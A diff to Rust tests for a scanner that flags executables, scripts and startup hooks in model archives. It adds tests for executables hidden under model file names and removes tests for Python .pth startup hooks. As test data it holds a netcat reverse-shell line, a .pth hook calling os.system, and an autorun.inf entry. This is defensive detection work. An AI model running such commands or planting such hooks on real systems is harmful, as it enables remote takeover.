@@ -25,12 +25,10 @@ fn programs_and_scripts_are_told_by_content() {
         ("run.bat", b"@echo hello\r\n", Some("script")),
         ("run.ps1", b"Write-Output hello\r\n", Some("script")),
         ("notes.txt", b"#!not a script", None),
-        ("x.pth", b"import os; os.system('echo')\n", Some("startup-hook")),
-        ("x.pth", b"../src\n", None),
-        ("autorun.inf", b"[autorun]\r\nopen=x.exe\r\n", Some("startup-hook")),
+        ("autorun.inf", b"[autorun]\r\nopen=x.exe\r\n", Some("script")),
     ] {
         let outcome = inspect_bytes(name, content);
-        let format = outcome.format.filter(|f| ["elf", "pe", "mach-o", "script", "startup-hook"].contains(f));
+        let format = outcome.format.filter(|f| ["elf", "pe", "mach-o", "script"].contains(f));
         assert_eq!(format, expected, "{name}");
     }
 }
@@ -41,6 +39,18 @@ fn in_a_folder_they_are_worth_knowing_in_a_model_archive_suspicious() {
     assert_eq!((verdict(&outcome), rules(&outcome)), (Verdict::Clean, vec!["executable-beside-model"]));
     let nested = Archive::of(&[Member::stored("helper.exe", &pe())]).bytes();
     assert_eq!(verdict(&inspect_bytes("tools.zip", &nested)), Verdict::Clean);
+}
+
+#[test]
+fn under_a_models_name_and_as_a_module_they_are_suspicious() {
+    for (name, rule) in [
+        ("model.gguf", "executable-under-model-name"),
+        ("model.safetensors", "executable-under-model-name"),
+        ("ops.cpython-311-x86_64-linux-gnu.so", "native-module-beside-model"),
+        ("libmodel.so", "executable-beside-model"),
+    ] {
+        assert!(rules(&inspect_bytes(name, ELF)).contains(&rule), "{name}");
+    }
 }
 
 #[test]
@@ -68,17 +78,7 @@ fn reverse_shells_and_hidden_commands_are_attacks() {
 }
 
 #[test]
-fn path_files_of_packaging_tools_are_clean() {
-    let distutils = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();";
-    assert_eq!(verdict(&inspect_bytes("distutils-precedence.pth", distutils)), Verdict::Clean);
-    assert_eq!(verdict(&inspect_bytes("x.pth", b"import os; os.system('echo')\n")), Verdict::Malicious);
-    assert_eq!(verdict(&inspect_bytes("x.pth", b"import example\n")), Verdict::Suspicious);
-    assert_eq!(verdict(&inspect_bytes("sitecustomize.py", b"print('hello')\n")), Verdict::Suspicious);
-}
-
-#[test]
 fn damage_is_survived() {
     survives_damage("helper", ELF);
     survives_damage("run.sh", b"#!/bin/sh\nnc -e /bin/sh host 1\n");
-    survives_damage("x.pth", b"import os\n");
 }
